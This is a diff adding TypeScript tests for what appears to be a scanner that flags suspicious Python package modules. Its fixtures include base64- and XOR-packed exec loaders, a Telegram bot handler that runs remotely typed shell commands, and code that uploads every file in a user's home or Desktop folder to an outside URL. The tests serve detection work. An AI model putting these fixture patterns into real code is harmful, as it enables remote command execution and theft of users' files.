@@ -72,4 +72,67 @@ describe('modules of a package', () => {
         ['data-exfiltration from:whole-environment']);
     });
   });
+
+  describe('that run what they decode', () => {
+    const packed = (text: string): string => `import base64\n\ndef load():\n    exec(base64.b64decode("${Buffer.from(text).toString('base64')}").decode(), globals())\n`;
+
+    it('may unpack tables and helpers', () => {
+      assert.deepEqual(told(packed('TABLE = {"a": 1}\n\ndef look(name):\n    return TABLE[name]\n')), []);
+    });
+
+    it('are told about when that acts, though each act by itself may be honest', () => {
+      for (const act of ['import subprocess\nsubprocess.call(["make"])\n', 'import requests\nrequests.get("https://example.org/")\n', 'open("notes.txt", "w").write("x")\n']) {
+        assert.deepEqual(told(packed(act)), ['dynamic-exec from:decoded text:known'], act);
+      }
+    });
+
+    it('are told about when nobody can read it to its end', () => {
+      assert.deepEqual(told(packed('TABLE = (\n')), ['dynamic-exec from:decoded text:known']);
+    });
+
+    it('are told about when the loop that decodes it is long', () => {
+      const text = Buffer.from('print(1)\n'.repeat(300)).toString('base64');
+      assert.deepEqual(told(`import base64\n\ndef decode(data, key):\n    out = []\n    for i, c in enumerate(data):\n        out.append(c ^ key[i % len(key)])\n    return bytes(out)\n\ndef load():\n    exec(decode(base64.b64decode("${text}"), b"ab").decode())\n`), ['dynamic-exec from:decoded']);
+    });
+
+    it('are told about when computing it takes longer than anybody follows', () => {
+      const table = JSON.stringify(Object.fromEntries([...'abcdefghijklmnopqrstuvwxyz '].map((c, i) => [c, String.fromCharCode(65 + i)])));
+      const text = Buffer.from('the quick brown fox jumps over the lazy dog '.repeat(150)).toString('base64');
+      assert.deepEqual(told(`import base64\nexec("".join([y[1] for x in [x for x in base64.b64decode("${text}").decode()] for y in ${table}.items() if x == y[0]]))\n`), ['dynamic-exec from:decoded']);
+    });
+  });
+
+  describe('that messengers or folders speak to', () => {
+    it('may not run what is typed elsewhere, wherever the handler is registered', () => {
+      const handler = '@bot.message_handler(commands=["run"])\ndef run(message):\n    subprocess.run(message.text[5:].strip(), shell=True)\n';
+      const head = 'import subprocess, telebot\n\n';
+      assert.deepEqual(told(`${head}bot = telebot.TeleBot("1:2")\n\n${handler}`), ['process-start from:network']);
+      assert.deepEqual(told(`${head}def serve(token):\n    bot = telebot.TeleBot(token)\n${handler.replace(/^/gm, '    ')}`), ['process-start from:network']);
+      assert.deepEqual(told(`${head}bot = telebot.TeleBot("1:2")\n\n@bot.message_handler(commands=["tea"])\ndef tea(message):\n    subprocess.run(["make", "tea"])\n    bot.reply_to(message, "here")\n`), []);
+    });
+
+    it('may not send away what they look for among the files of a user', () => {
+      const send = (folder: string): string => `import os, requests\n\ndef send():\n    folder = os.path.expanduser("${folder}")\n    for name in os.listdir(folder):\n        with open(os.path.join(folder, name), "rb") as f:\n            requests.post("https://example.org/in", files={"f": f})\n`;
+      for (const folder of ['~', '~/Desktop', '~/Work/notes']) assert.deepEqual(told(send(folder)), ['data-exfiltration from:found-file'], folder);
+      for (const folder of ['~/.config/tool', 'reports', '/srv/data']) assert.deepEqual(told(send(folder)), [], folder);
+    });
+  });
+
+  describe('that count', () => {
+    const counted = (...paths: string[]): string[] => {
+      const project = createProject(parsers, { ...DEFAULT_SETTINGS, wholePackage: true });
+      for (const path of paths) project.set(path, { kind: 'text', text: '' });
+      return project.snapshot().report().files.filter(({ role }) => role === 'package-module').map(({ path }) => path);
+    };
+
+    it('may be called like tests inside a package, not beside it', () => {
+      assert.deepEqual(counted('test.py', 'tests.py', 'pkg/__init__.py', 'pkg/test.py', 'pkg/sub/tests.py', 'pkg/test_a.py', 'pkg/tests/test.py'), ['pkg/__init__.py', 'pkg/sub/tests.py', 'pkg/test.py']);
+    });
+
+    it('may lie where an archive with whole paths puts them', () => {
+      assert.deepEqual(counted('Python311/Lib/site-packages/pkg/__init__.py', 'Python311/Lib/site-packages/pkg/a.py', 'Python311/Lib/site-packages/pkg/tests/b.py'),
+        ['Python311/Lib/site-packages/pkg/__init__.py', 'Python311/Lib/site-packages/pkg/a.py']);
+      assert.deepEqual(counted('pkg/__init__.py', 'env/lib/site-packages/other/__init__.py'), ['pkg/__init__.py']);
+    });
+  });
 });
